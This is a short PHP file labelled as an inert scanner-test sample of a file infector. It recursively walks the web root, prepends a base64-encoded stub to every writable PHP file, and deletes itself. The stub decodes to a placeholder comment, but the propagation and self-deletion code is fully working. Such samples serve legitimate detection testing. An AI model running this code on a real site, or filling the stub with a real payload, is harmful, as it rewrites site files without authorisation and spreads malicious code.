<?php
// sweep sample (inert): a file infector. It walks the site from the web root and puts a stub in
// front of every writable PHP file, then deletes itself. The stub is only a placeholder comment.
$stub = base64_decode('PD9waHAgLyogcGxhY2Vob2xkZXIgc3R1YiAqLyA/Pg==');
function spread($dir, $stub)
{
    foreach (scandir($dir) as $name) {
        if ($name === '.' || $name === '..') {
            continue;
        }
        $path = $dir . '/' . $name;
        if (is_dir($path)) {
            spread($path, $stub);
        } elseif (substr($path, -4) === '.php' && is_writable($path)) {
            file_put_contents($path, $stub . file_get_contents($path));
        }
    }
}
spread($_SERVER['DOCUMENT_ROOT'], $stub);
unlink(__FILE__);
